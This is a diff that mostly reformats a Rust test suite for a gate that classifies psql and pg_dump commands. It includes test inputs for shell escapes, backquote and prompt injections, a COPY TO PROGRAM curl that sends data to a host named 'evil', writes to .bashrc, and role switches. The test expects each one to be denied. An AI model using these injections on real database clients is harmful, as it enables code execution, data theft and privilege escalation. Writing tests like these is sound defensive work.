@@ -141,18 +141,61 @@ fn check(case: &Case, rows: &[Row<'_>]) {
 #[test]
 fn legitimate_reads_stay_allowed() {
     let case = Case::new();
-    case.file(".psqlrc", "\\set QUIET 1\n\\pset null '(null)'\n\\set ON_ERROR_STOP on\n");
+    case.file(
+        ".psqlrc",
+        "\\set QUIET 1\n\\pset null '(null)'\n\\set ON_ERROR_STOP on\n",
+    );
     check(
         &case,
         &[
-            row(&["psql", "-X", "-h", "localhost", "-d", "app", "-c", "SELECT 1"], "allow", "read"),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "-h",
+                    "localhost",
+                    "-d",
+                    "app",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "allow",
+                "read",
+            ),
             row(&["psql", "-c", "\\d+ items"], "allow", "read"),
             row(&["psql", "--comm=SELECT 1"], "allow", "read"),
-            row(&["psql", "-h", "db", "app", "-At", "-v", "ON_ERROR_STOP=1", "-c", "SELECT count(*) FROM t"], "allow", "read"),
-            row(&["psql", "--csv", "-c", "SELECT 1", "-c", "\\dt"], "allow", "read"),
+            row(
+                &[
+                    "psql",
+                    "-h",
+                    "db",
+                    "app",
+                    "-At",
+                    "-v",
+                    "ON_ERROR_STOP=1",
+                    "-c",
+                    "SELECT count(*) FROM t",
+                ],
+                "allow",
+                "read",
+            ),
+            row(
+                &["psql", "--csv", "-c", "SELECT 1", "-c", "\\dt"],
+                "allow",
+                "read",
+            ),
             row(&["psql", "-l"], "allow", "read"),
             row(&["psql", "--version"], "allow", "read"),
-            row(&["psql", "postgresql://ops@db.internal:5432/shop?sslmode=require", "-c", "SELECT 1"], "allow", "read"),
+            row(
+                &[
+                    "psql",
+                    "postgresql://ops@db.internal:5432/shop?sslmode=require",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "allow",
+                "read",
+            ),
             Row {
                 env: &[("PAGER", "less -S")],
                 ..row(&["psql", "-c", "SELECT 1"], "allow", "read")
@@ -172,14 +215,34 @@ fn option_abbreviations_resolve_as_getopt_long_does() {
         &case,
         &[
             // `--comm` is --command, so its SQL is classified.
-            row(&["psql", "-X", "--comm=DROP TABLE t"], "deny", "destructive_write"),
-            row(&["psql", "-X", "--fi=/nonexistent/x.sql"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "--comm=DROP TABLE t"],
+                "deny",
+                "destructive_write",
+            ),
+            row(
+                &["psql", "-X", "--fi=/nonexistent/x.sql"],
+                "deny",
+                "unknown",
+            ),
             // `--o` is --output: the pipe runs.
-            row(&["psql", "-X", "--o=|touch /tmp/gate-x", "-c", "SELECT 1"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "--o=|touch /tmp/gate-x", "-c", "SELECT 1"],
+                "deny",
+                "code_execution",
+            ),
             // `--e` could be five options; getopt_long refuses it, and so does gate.
             row(&["psql", "-X", "--e", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "--no-p", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["pg_restore", "--dbn=app", "app.dump"], "deny", "bulk_write"),
+            row(
+                &["psql", "-X", "--no-p", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &["pg_restore", "--dbn=app", "app.dump"],
+                "deny",
+                "bulk_write",
+            ),
             row(&["pg_dump", "--sche", "app"], "deny", "unknown"),
             row(&["dropdb", "--if-e", "shop"], "deny", "destructive_write"),
         ],
@@ -192,11 +255,23 @@ fn unknown_options_are_unknown() {
     check(
         &case,
         &[
-            row(&["psql", "-X", "--frobnicate", "-c", "SELECT 1"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "--frobnicate", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
             row(&["psql", "-X", "-Y", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "--cluster", "15/main", "-c", "SELECT 1"], "deny", "unknown"),
+            row(
+                &["psql", "--cluster", "15/main", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
             row(&["pg_dump", "--no-statistics", "app"], "deny", "unknown"),
-            row(&["pg_restore", "--statistics-only", "-d", "app", "x.dump"], "deny", "unknown"),
+            row(
+                &["pg_restore", "--statistics-only", "-d", "app", "x.dump"],
+                "deny",
+                "unknown",
+            ),
             row(&["createdb", "--frob", "shop"], "deny", "unknown"),
             row(&["psql", "-X", "-c"], "deny", "unknown"),
         ],
@@ -209,15 +284,49 @@ fn output_and_log_options_are_not_reads() {
     check(
         &case,
         &[
-            row(&["psql", "-X", "-o", "|touch /tmp/gate-x", "-c", "SELECT 1"], "deny", "code_execution"),
-            row(&["psql", "-X", "-o/tmp/out.txt", "-c", "SELECT 1"], "deny", "data_export"),
-            row(&["psql", "-X", "--output=/tmp/out.txt", "-c", "SELECT 1"], "deny", "data_export"),
-            row(&["psql", "-X", "-L", "/tmp/session.log", "-c", "SELECT 1"], "deny", "data_export"),
-            row(&["psql", "-X", "--log-file=/tmp/session.log", "-c", "SELECT 1"], "deny", "data_export"),
+            row(
+                &["psql", "-X", "-o", "|touch /tmp/gate-x", "-c", "SELECT 1"],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &["psql", "-X", "-o/tmp/out.txt", "-c", "SELECT 1"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["psql", "-X", "--output=/tmp/out.txt", "-c", "SELECT 1"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["psql", "-X", "-L", "/tmp/session.log", "-c", "SELECT 1"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "--log-file=/tmp/session.log",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "data_export",
+            ),
             // psql opens -o while it reads the options, before -V stops it.
             row(&["psql", "-X", "-o", "|id", "-V"], "deny", "code_execution"),
-            row(&["pg_restore", "-f", "/home/u/.bashrc", "evil.dump"], "deny", "data_export"),
-            row(&["pg_dump", "--inserts", "-f", "out.sql", "app"], "deny", "data_export"),
+            row(
+                &["pg_restore", "-f", "/home/u/.bashrc", "evil.dump"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["pg_dump", "--inserts", "-f", "out.sql", "app"],
+                "deny",
+                "data_export",
+            ),
         ],
     );
 }
@@ -228,13 +337,54 @@ fn psql_variables_are_allow_listed() {
     check(
         &case,
         &[
-            row(&["psql", "-X", "-v", "ON_ERROR_STOP=1", "-c", "SELECT 1"], "allow", "read"),
-            row(&["psql", "-X", "-v", "PROMPT1=%`touch /tmp/gate-p`", "-c", "SELECT 1"], "deny", "code_execution"),
-            row(&["psql", "-X", "--set=HISTFILE=/home/u/.bashrc", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "--variable=SINGLELINE=on", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "-v", "FUTURE_SPECIAL=x", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "-c", "\\set PROMPT2 '`id`'"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "SELECT 'x' AS \"HISTFILE\" \\gset"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "-v", "ON_ERROR_STOP=1", "-c", "SELECT 1"],
+                "allow",
+                "read",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "-v",
+                    "PROMPT1=%`touch /tmp/gate-p`",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "--set=HISTFILE=/home/u/.bashrc",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &["psql", "-X", "--variable=SINGLELINE=on", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &["psql", "-X", "-v", "FUTURE_SPECIAL=x", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\set PROMPT2 '`id`'"],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &["psql", "-X", "-c", "SELECT 'x' AS \"HISTFILE\" \\gset"],
+                "deny",
+                "unknown",
+            ),
         ],
     );
 }
@@ -252,13 +402,29 @@ fn startup_files_are_read_and_classified() {
     custom.file("rc/more.sql", "TRUNCATE audit_log;\n");
     let quoted = Case::new();
     quoted.file(".psqlrc", "\\echo `touch /tmp/gate-rc`\n");
-    check(&case, &[row(&["psql", "-c", "SELECT 1"], "deny", "destructive_write")]);
+    check(
+        &case,
+        &[row(
+            &["psql", "-c", "SELECT 1"],
+            "deny",
+            "destructive_write",
+        )],
+    );
     // -X skips them.
-    check(&case, &[row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")]);
+    check(
+        &case,
+        &[row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")],
+    );
     // -l still reads them.
     check(&case, &[row(&["psql", "-l"], "deny", "destructive_write")]);
-    check(&minor, &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")]);
-    check(&major, &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")]);
+    check(
+        &minor,
+        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
+    );
+    check(
+        &major,
+        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
+    );
     check(
         &custom,
         &[Row {
@@ -266,7 +432,10 @@ fn startup_files_are_read_and_classified() {
             ..row(&["psql", "-c", "SELECT 1"], "deny", "destructive_write")
         }],
     );
-    check(&quoted, &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")]);
+    check(
+        &quoted,
+        &[row(&["psql", "-c", "SELECT 1"], "deny", "code_execution")],
+    );
 }
 
 #[test]
@@ -281,8 +450,14 @@ fn a_missing_home_is_unknown() {
         .unwrap();
     let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert_eq!(json["decision"], "deny");
-    assert!(json["findings"].as_array().unwrap().iter().any(|f| f["kind"] == "unknown"
-        && f["detail"].as_str().unwrap().contains("password database")));
+    assert!(
+        json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["kind"] == "unknown"
+                && f["detail"].as_str().unwrap().contains("password database"))
+    );
 }
 
 #[test]
@@ -297,20 +472,39 @@ fn service_files_name_the_real_target() {
     check(
         &case,
         &[
-            row(&["psql", "-X", "service=dev", "-c", "SELECT 1"], "allow", "read"),
+            row(
+                &["psql", "-X", "service=dev", "-c", "SELECT 1"],
+                "allow",
+                "read",
+            ),
             Row {
                 env: &[("PGSERVICE", "dev")],
                 ..row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")
             },
-            row(&["psql", "-X", "service=prod", "-c", "SELECT 1"], "deny", "privilege_switch"),
-            row(&["psql", "-X", "service=odd", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "service=nowhere", "-c", "SELECT 1"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "service=prod", "-c", "SELECT 1"],
+                "deny",
+                "privilege_switch",
+            ),
+            row(
+                &["psql", "-X", "service=odd", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &["psql", "-X", "service=nowhere", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
             Row {
                 env: &[("PGSERVICEFILE", other), ("PGSERVICE", "ci")],
                 ..row(&["psql", "-X", "-c", "SELECT 1"], "allow", "read")
             },
             Row {
-                env: &[("PGSERVICEFILE", "/nonexistent/pg_service.conf"), ("PGSERVICE", "ci")],
+                env: &[
+                    ("PGSERVICEFILE", "/nonexistent/pg_service.conf"),
+                    ("PGSERVICE", "ci"),
+                ],
                 ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
             },
         ],
@@ -318,7 +512,16 @@ fn service_files_name_the_real_target() {
     // The service's host is the target gate reports.
     let out = case
         .command(&[])
-        .args(["explain", "--json", "--", "psql", "-X", "service=prod", "-c", "SELECT 1"])
+        .args([
+            "explain",
+            "--json",
+            "--",
+            "psql",
+            "-X",
+            "service=prod",
+            "-c",
+            "SELECT 1",
+        ])
         .write_stdin(Vec::new())
         .output()
         .unwrap();
@@ -342,16 +545,60 @@ fn server_options_are_allow_listed() {
             },
             Row {
                 env: &[("PGOPTIONS", "-crole=postgres")],
-                ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "privilege_switch")
+                ..row(
+                    &["psql", "-X", "-c", "SELECT 1"],
+                    "deny",
+                    "privilege_switch",
+                )
             },
             Row {
                 env: &[("PGOPTIONS", "-c session_preload_libraries=evil")],
                 ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
             },
-            row(&["psql", "-X", "options='-c search_path=evil,pg_catalog' dbname=app", "-c", "SELECT lower('x')"], "deny", "unknown"),
-            row(&["psql", "-X", "postgresql:///app?options=-c%20session_authorization%3Dpostgres", "-c", "SELECT 1"], "deny", "privilege_switch"),
-            row(&["psql", "-X", "dbname=app client_encoding=SJIS", "-c", "SELECT 1"], "deny", "unknown"),
-            row(&["psql", "-X", "dbname=app replication=database", "-c", "SELECT 1"], "deny", "unknown"),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "options='-c search_path=evil,pg_catalog' dbname=app",
+                    "-c",
+                    "SELECT lower('x')",
+                ],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "postgresql:///app?options=-c%20session_authorization%3Dpostgres",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "privilege_switch",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "dbname=app client_encoding=SJIS",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "unknown",
+            ),
+            row(
+                &[
+                    "psql",
+                    "-X",
+                    "dbname=app replication=database",
+                    "-c",
+                    "SELECT 1",
+                ],
+                "deny",
+                "unknown",
+            ),
         ],
     );
 }
@@ -372,19 +619,35 @@ fn pagers_and_editors() {
             },
             Row {
                 env: &[("PSQL_PAGER", "/tmp/evil")],
-                ..row(&["psql", "-X", "-P", "pager=off", "-c", "SELECT 1"], "allow", "read")
+                ..row(
+                    &["psql", "-X", "-P", "pager=off", "-c", "SELECT 1"],
+                    "allow",
+                    "read",
+                )
             },
             Row {
                 env: &[("PSQL_WATCH_PAGER", "/tmp/evil")],
                 ..row(&["psql", "-X", "-c", "SELECT 1"], "deny", "unknown")
             },
-            row(&["psql", "-X", "-P", "pager=always", "-c", "SELECT 1"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "-P", "pager=always", "-c", "SELECT 1"],
+                "deny",
+                "unknown",
+            ),
             Row {
                 env: &[("EDITOR", "touch /tmp/gate-ed")],
                 ..row(&["psql", "-X", "-c", "\\e"], "deny", "code_execution")
             },
-            row(&["psql", "-X", "-c", "\\ef my_function"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "\\ev my_view"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "\\ef my_function"],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\ev my_view"],
+                "deny",
+                "code_execution",
+            ),
         ],
     );
 }
@@ -396,32 +659,92 @@ fn risky_backslash_commands() {
         &case,
         &[
             // Backquotes in any argument.
-            row(&["psql", "-X", "-c", "\\echo `touch /tmp/gate-b`"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "\\echo `touch /tmp/gate-b`"],
+                "deny",
+                "code_execution",
+            ),
             row(&["psql", "-X", "-c", "\\d `id`"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "\\if `true`"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "\\if `true`"],
+                "deny",
+                "code_execution",
+            ),
             // Shell escapes and pipes.
             row(&["psql", "-X", "-c", "\\! id"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "SELECT 1 \\g |sh"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "\\o | mail someone"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "SELECT 1 \\g |sh"],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\o | mail someone"],
+                "deny",
+                "code_execution",
+            ),
             row(&["psql", "-X", "-c", "\\w |sh"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "\\copy t from program 'id'"], "deny", "code_execution"),
-            row(&["psql", "-X", "-c", "\\COPY t TO PROGRAM 'curl -d @- evil'"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "\\copy t from program 'id'"],
+                "deny",
+                "code_execution",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\COPY t TO PROGRAM 'curl -d @- evil'"],
+                "deny",
+                "code_execution",
+            ),
             // Files written on the client.
-            row(&["psql", "-X", "-c", "\\w /home/u/.bashrc"], "deny", "data_export"),
-            row(&["psql", "-X", "-c", "\\s /tmp/history"], "deny", "data_export"),
-            row(&["psql", "-X", "-c", "\\copy t to '/tmp/t.csv' csv"], "deny", "data_export"),
-            row(&["psql", "-X", "-c", "\\lo_export 16393 /tmp/lo"], "deny", "data_export"),
+            row(
+                &["psql", "-X", "-c", "\\w /home/u/.bashrc"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\s /tmp/history"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\copy t to '/tmp/t.csv' csv"],
+                "deny",
+                "data_export",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\lo_export 16393 /tmp/lo"],
+                "deny",
+                "data_export",
+            ),
             // State and the server.
-            row(&["psql", "-X", "-c", "\\copy t from '/tmp/t.csv'"], "deny", "write"),
-            row(&["psql", "-X", "-c", "\\lo_unlink 16393"], "deny", "destructive_write"),
-            row(&["psql", "-X", "-c", "\\password postgres"], "deny", "permission_change"),
+            row(
+                &["psql", "-X", "-c", "\\copy t from '/tmp/t.csv'"],
+                "deny",
+                "write",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\lo_unlink 16393"],
+                "deny",
+                "destructive_write",
+            ),
+            row(
+                &["psql", "-X", "-c", "\\password postgres"],
+                "deny",
+                "permission_change",
+            ),
             row(&["psql", "-X", "-c", "\\c otherdb"], "deny", "unknown"),
-            row(&["psql", "-X", "-c", "\\setenv PAGER 'sh -c id'"], "deny", "unknown"),
+            row(
+                &["psql", "-X", "-c", "\\setenv PAGER 'sh -c id'"],
+                "deny",
+                "unknown",
+            ),
             row(&["psql", "-X", "-c", "\\encoding SJIS"], "deny", "unknown"),
             row(&["psql", "-X", "-c", "\\!id"], "deny", "unknown"),
             row(&["psql", "-X", "-c", "\\frobnicate"], "deny", "unknown"),
             // A second command on the same line.
-            row(&["psql", "-X", "-c", "\\echo hi \\! id"], "deny", "code_execution"),
+            row(
+                &["psql", "-X", "-c", "\\echo hi \\! id"],
+                "deny",
+                "code_execution",
+            ),
         ],
     );
 }
@@ -450,18 +773,44 @@ fn include_relative_and_cd_resolve_as_psql_does() {
             row(&["psql", "-X", "-c", "\\i lib/a.sql"], "deny", "unknown"),
             row(&["psql", "-X", "-c", &cd], "deny", "unknown"),
             row(&["psql", "-X", "-c", "\\cd ~otheruser"], "deny", "unknown"),
-            row(&["psql", "-X", "-c", "\\i ~/scripts/harmless.sql"], "allow", "read"),
+            row(
+                &["psql", "-X", "-c", "\\i ~/scripts/harmless.sql"],
+                "allow",
+                "read",
+            ),
         ],
     );
-    check(&tilde, &[row(&["psql", "-X", "-c", "\\i ~/x.sql"], "deny", "destructive_write")]);
+    check(
+        &tilde,
+        &[row(
+            &["psql", "-X", "-c", "\\i ~/x.sql"],
+            "deny",
+            "destructive_write",
+        )],
+    );
     // After \cd, a relative \i reads from the new directory.
-    let script = case.file("cdthen.sql", &format!("\\cd {}\n\\i b.sql\n", scripts.display()));
+    let script = case.file(
+        "cdthen.sql",
+        &format!("\\cd {}\n\\i b.sql\n", scripts.display()),
+    );
     let script = script.to_str().unwrap();
-    check(&case, &[row(&["psql", "-X", "-f", script], "deny", "destructive_write")]);
+    check(
+        &case,
+        &[row(
+            &["psql", "-X", "-f", script],
+            "deny",
+            "destructive_write",
+        )],
+    );
 }
 
 /// `gate run -- psql <connection to the test server> ARGS…`, with psql's HOME in the case's directory.
-fn gated_psql(case: &Case, pg: &Postgres, env: &[(&str, &str)], args: &[&str]) -> std::process::Output {
+fn gated_psql(
+    case: &Case,
+    pg: &Postgres,
+    env: &[(&str, &str)],
+    args: &[&str],
+) -> std::process::Output {
     case.command(env)
         .args(["run", "--", "psql"])
         .args(pg.conn_args())
@@ -483,8 +832,18 @@ fn attacks_against_a_real_server_are_refused_and_do_nothing() {
     // The control: a read runs, through a harmless psqlrc.
     let reads = Case::new();
     reads.file(".psqlrc", "\\set QUIET 1\n\\pset null '(null)'\n");
-    let out = gated_psql(&reads, &pg, &[], &["-At", "-d", "app", "-c", "SELECT count(*) FROM t"]);
-    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let out = gated_psql(
+        &reads,
+        &pg,
+        &[],
+        &["-At", "-d", "app", "-c", "SELECT count(*) FROM t"],
+    );
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
     assert_eq!(String::from_utf8_lossy(&out.stdout).trim(), "1");
 
     let rc = Case::new();
@@ -499,14 +858,41 @@ fn attacks_against_a_real_server_are_refused_and_do_nothing() {
     let attacks: Vec<(&Case, Vec<(&str, &str)>, Vec<&str>)> = vec![
         (&rc, vec![], vec!["-d", "app", "-c", "SELECT 1"]),
         (&rc_minor, vec![], vec!["-d", "app", "-c", "SELECT 1"]),
-        (&plain, vec![], vec!["-d", "app", "-o", &o_pipe, "-c", "SELECT 1"]),
+        (
+            &plain,
+            vec![],
+            vec!["-d", "app", "-o", &o_pipe, "-c", "SELECT 1"],
+        ),
         (&plain, vec![], vec!["-X", "-d", "app", "-c", &shell]),
         (&plain, vec![], vec!["-X", "-d", "app", "-c", &backquote]),
-        (&plain, vec![], vec!["-X", "-d", "app", "-v", &prompt, "-c", "SELECT 1"]),
-        (&plain, vec![("PGOPTIONS", "-c default_transaction_read_only=off -c role=postgres")], vec!["-X", "-d", "app", "-c", "SELECT 1"]),
-        (&plain, vec![("PGOPTIONS", "-c standard_conforming_strings=off")], vec!["-X", "-d", "app", "-c", "SELECT 1"]),
-        (&plain, vec![], vec!["-X", "--comm=DROP TABLE t", "-d", "app"]),
-        (&plain, vec![], vec!["-X", "-d", "app", "-c", "\\copy t to program 'cat'"]),
+        (
+            &plain,
+            vec![],
+            vec!["-X", "-d", "app", "-v", &prompt, "-c", "SELECT 1"],
+        ),
+        (
+            &plain,
+            vec![(
+                "PGOPTIONS",
+                "-c default_transaction_read_only=off -c role=postgres",
+            )],
+            vec!["-X", "-d", "app", "-c", "SELECT 1"],
+        ),
+        (
+            &plain,
+            vec![("PGOPTIONS", "-c standard_conforming_strings=off")],
+            vec!["-X", "-d", "app", "-c", "SELECT 1"],
+        ),
+        (
+            &plain,
+            vec![],
+            vec!["-X", "--comm=DROP TABLE t", "-d", "app"],
+        ),
+        (
+            &plain,
+            vec![],
+            vec!["-X", "-d", "app", "-c", "\\copy t to program 'cat'"],
+        ),
     ];
     for (case, env, args) in &attacks {
         let out = gated_psql(case, &pg, env, args);
@@ -517,7 +903,11 @@ fn attacks_against_a_real_server_are_refused_and_do_nothing() {
             String::from_utf8_lossy(&out.stderr)
         );
     }
-    assert_eq!(pg.psql("app", "SELECT count(*) FROM t"), "1", "the table is still there");
+    assert_eq!(
+        pg.psql("app", "SELECT count(*) FROM t"),
+        "1",
+        "the table is still there"
+    );
     for name in ["rc", "o", "shell", "backquote", "prompt"] {
         assert!(!marker(name).exists(), "{name}: the file was written");
     }
